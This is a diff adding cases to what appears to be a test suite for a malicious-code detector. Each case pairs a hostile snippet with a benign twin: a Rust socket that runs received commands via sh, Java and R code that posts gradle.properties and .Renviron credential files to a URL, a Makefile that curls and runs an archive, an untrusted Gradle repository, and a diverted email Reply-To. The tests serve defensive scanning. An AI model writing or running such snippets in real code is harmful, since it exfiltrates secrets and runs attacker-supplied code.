@@ -243,6 +243,42 @@ describe.each([
     attack: 'docker run -d --restart=always honeygain/honeygain -tou-accept -email a@mail.test\n',
     honest: 'docker run -d --restart=always postgres:16\n',
   },
+  {
+    what: 'orders from a connection, in Rust',
+    path: 'a.rs',
+    attack: `let mut s = TcpStream::connect("mirror-nine.test:81").unwrap();\ns.read_to_string(&mut order);\nCommand::new("sh").arg("-c").arg(order).spawn();\n`,
+    honest: `let mut s = TcpStream::connect("mirror-nine.test:81").unwrap();\ns.read_to_string(&mut table);\nCommand::new("sh").arg("-c").arg("sort table.txt").spawn();\n`,
+  },
+  {
+    what: 'keys by the parts of their path, in Java',
+    path: 'A.java',
+    attack: `var p = Path.of(home, ".gradle", "gradle.properties");\nHttpRequest.newBuilder(URI.create("${url}")).POST(BodyPublishers.ofFile(p)).build();\n`,
+    honest: `var p = Path.of("tables", "first.csv");\nHttpRequest.newBuilder(URI.create("${url}")).POST(BodyPublishers.ofFile(p)).build();\n`,
+  },
+  {
+    what: 'keys given by a call of R without its package',
+    path: 'a.R',
+    attack: `library(httr)\nk <- readLines("~/.Renviron")\nPOST("${url}", body = k)\n`,
+    honest: `library(httr)\nk <- readLines("table.csv")\nPOST("${url}", body = k)\n`,
+  },
+  {
+    what: 'a build that unpacks and starts',
+    path: 'Makefile',
+    attack: `all:\n\t@curl -sf ${url} | tar xz -C /opt/t && /opt/t/check\n`,
+    honest: 'all:\n\t@tar xz -C /opt/t -f table.tgz && /opt/t/check\n',
+  },
+  {
+    what: 'a store of packages of a stranger, in Gradle',
+    path: 'build.gradle',
+    attack: `repositories {\n  maven { url '${url}' }\n}\n`,
+    honest: 'repositories {\n  mavenCentral()\n}\n',
+  },
+  {
+    what: 'answers that go to a stranger',
+    path: 'a.py',
+    attack: `import smtplib\nm["Reply-To"] = "pay@mirror-nine.test"\nsmtplib.SMTP(box).send_message(m)\n`,
+    honest: `import smtplib\nm["Reply-To"] = own\nsmtplib.SMTP(box).send_message(m)\n`,
+  },
 ])('$what', ({ path, attack, honest }) => {
   it('is seen', () => expect(verdict(path, attack)).toBe('block'))
   it('is not seen where it is not', () => expect(verdict(path, honest)).not.toBe('block'))
